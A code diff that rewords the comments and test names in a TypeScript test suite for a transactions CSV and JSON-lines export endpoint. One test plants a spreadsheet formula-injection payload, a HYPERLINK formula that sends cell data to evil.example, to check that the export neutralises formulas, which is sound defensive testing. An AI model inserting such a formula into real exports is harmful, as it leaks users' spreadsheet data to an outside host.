@@ -1,4 +1,4 @@
-// The export of transactions over HTTP: equal to the list, safe in a spreadsheet, and sent while it is read.
+// The export of transactions over HTTP: equal to the list, safe in a spreadsheet, and streamed.
 import { setTimeout as sleep } from "node:timers/promises";
 import Database from "better-sqlite3";
 import pg from "pg";
@@ -10,10 +10,10 @@ import { newMember, newOrganization, type Person, receive, succeeded, type Trans
 import { FIELDS } from "./records";
 
 const path = "/v1/transactions/export";
-/** More for a measurement by hand; see the test of the memory. */
+/** Raise it to measure by hand; see the memory test. */
 const manyRows = Number(process.env.EXPORT_ROWS ?? 200_000);
 
-/** A file of comma-separated values as RFC 4180 says: a record for each line, by the header's names. */
+/** Parses CSV as RFC 4180 defines it: one record per line, keyed by the header's names. */
 function parseCsv(text: string): Record<string, string>[] {
   const lines: string[][] = [[]];
   const pattern = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
@@ -32,7 +32,7 @@ async function list(api: Api, token: string, query = ""): Promise<Row[]> {
   return succeeded(await api<{ data: Row[] }>("GET", `/v1/transactions?limit=100${query}`, { token })).data;
 }
 
-/** What stands in the file for a record of the list. */
+/** The expected CSV row for a record of the list. */
 function flat(record: Row): Record<string, string> {
   const cells: [string, unknown][] = Object.entries(record).flatMap(([name, value]): [string, unknown][] => {
     const parts = { payment_method: ["type", "brand", "last4", "exp_month", "exp_year"], failure: ["code", "message"] };
@@ -46,7 +46,7 @@ function flat(record: Row): Record<string, string> {
   return Object.fromEntries(cells.map(([name, value]) => [name, textOf(value)]));
 }
 
-test("says what the list says, by the same filters, as CSV and as lines of JSON", async ({ api }) => {
+test("returns the same records as the list, with the same filters, as CSV and as JSON lines", async ({ api }) => {
   const person = await newMember(api);
   await receive(api, person, 100, {
     metadata: { order: "7" },
@@ -87,7 +87,7 @@ test("says what the list says, by the same filters, as CSV and as lines of JSON"
   expect(none.text).toContain("transaction_id,account_id,type,status,direction,amount,currency");
 });
 
-test("no text of it is a formula", async ({ api }) => {
+test("contains no text that a spreadsheet reads as a formula", async ({ api }) => {
   const person = await newMember(api);
   const attack = '=HYPERLINK("http://evil.example?"&A1,"x")';
   await receive(api, person, 100, {
@@ -106,7 +106,7 @@ test("no text of it is a formula", async ({ api }) => {
   expect(row).toMatchObject({ amount: "100", net_amount: "100" });
 });
 
-test("shows each caller what the list shows it, and is refused where the list is", async ({ api, server }) => {
+test("shows each caller the same records as the list, and refuses whom the list refuses", async ({ api, server }) => {
   const [person, other, stranger] = [await newMember(api), await newMember(api), await newOrganization(server, api)];
   const { transaction_id: id } = await receive(api, person, 100);
   const idsOf = async ({ token }: Person, query: string) =>
@@ -129,7 +129,7 @@ test("shows each caller what the list shows it, and is refused where the list is
   expect((await api("POST", path, { token: person.token, body: {} })).status).toBe(405);
 });
 
-test("tells how it would be answered without sending it", async ({ api }) => {
+test("answers HEAD with the status of a GET and no body", async ({ api }) => {
   const person = await newMember(api);
   await receive(api, person, 100);
   const head = async (query: string) => api("HEAD", `${path}?${query}`, { token: person.token });
@@ -137,7 +137,7 @@ test("tells how it would be answered without sending it", async ({ api }) => {
   expect(await head("expected_count=2")).toMatchObject({ status: 400, text: "" });
 });
 
-test("is described as a file", async ({ api }) => {
+test("is documented as a file", async ({ api }) => {
   const { body } = await api<{
     paths: Record<string, Record<string, { tags: string[]; responses: Record<string, Row> }>>;
   }>("GET", "/v1/openapi.json");
@@ -146,13 +146,13 @@ test("is described as a file", async ({ api }) => {
   expect(Object.keys(described?.responses["200"]?.content ?? {})).toEqual(["text/csv", "application/x-ndjson"]);
 });
 
-test("is no procedure of the pages", async ({ api, server }) => {
+test("is not reachable as a page procedure", async ({ api, server }) => {
   const answer = await fetch(`${server.url}/api/trpc/transactions.export?input=%7B%7D`);
   expect([answer.status, (await answer.text()).includes("unknown_path")]).toEqual([404, true]);
   expect((await api("GET", "/dashboard/transactions/export")).status).toBe(401);
 });
 
-/** Copies the person's only transaction until there are `count` of them, one each second backwards. */
+/** Copies the person's only transaction until there are `count`, each one second older than the last. */
 async function multiply(server: TestServer, { accountId }: Person, count: number): Promise<void> {
   const columns = ["organization_id", "account_id", "type", "status", "direction", "amount", "currency", "metadata"];
   const more = [
@@ -184,10 +184,10 @@ async function multiply(server: TestServer, { accountId }: Person, count: number
   await client.query(statement).finally(() => client.end());
 }
 
-/** MiB that the process has in memory. */
+/** Resident memory of the process in MiB. */
 const memoryOf = (server: TestServer): number => server.memory() / (1024 * 1024);
 
-test.describe("of many rows", () => {
+test.describe("with many rows", () => {
   test.setTimeout(600_000);
   let server: TestServer;
   let person: Person;
@@ -204,12 +204,12 @@ test.describe("of many rows", () => {
     person = await newMember(api);
     await receive(api, person, 100, { description: "x".repeat(200), customer: { name: "Ada", email: "a@b.example" } });
     await multiply(server, person, manyRows);
-    // SQLite has held this process up: what the server has closed meanwhile is only noticed now.
+    // SQLite blocked this process: it notices only now which connections the server closed meanwhile.
     await sleep(500);
   });
   test.afterAll(() => server.stop());
 
-  test("takes no more memory than of a few, and is whole", async () => {
+  test("uses no more memory than with few rows, and is complete", async () => {
     await (
       await fetch(`${server.url}${path}?transaction_id=txn_x`, { headers: { Authorization: `Bearer ${person.token}` } })
     ).text();
@@ -223,11 +223,11 @@ test.describe("of many rows", () => {
     expect(lines).toBe(manyRows + 2);
     const seen = `${Math.round(before)} MiB before, ${Math.round(most)} MiB at most, of ${Math.round(bytes / 2 ** 20)} MiB`;
     console.log(`export of ${manyRows} rows: ${seen}`);
-    // What is collected late needs room, however many rows there are; all of them together would need far more.
+    // Allow for late garbage collection. Buffering all rows would need far more.
     expect(most - before, seen).toBeLessThan(256);
   });
 
-  test("stops when its reader goes, and the server serves on", async () => {
+  test("stops when the reader disconnects, and the server keeps serving", async () => {
     const leave = new AbortController();
     const reader = (await open(leave.signal)).body?.getReader();
     await reader?.read();
@@ -239,7 +239,7 @@ test.describe("of many rows", () => {
     await expect.poll(() => server.logs()).not.toContain("a download was cut off");
   });
 
-  test("is cut, not ended, when the server stops in the middle", async () => {
+  test("breaks off without a regular end when the server stops midway", async () => {
     const response = await open();
     const reader = response.body?.getReader();
     await reader?.read();
